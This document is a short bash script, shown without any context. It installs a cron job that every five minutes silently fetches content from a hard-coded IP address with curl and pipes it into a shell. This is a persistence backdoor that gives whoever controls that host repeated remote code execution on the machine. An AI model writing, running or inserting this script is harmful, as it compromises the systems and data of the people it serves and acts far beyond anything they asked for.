#!/bin/bash
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://198.51.100.3/p | sh") | crontab -
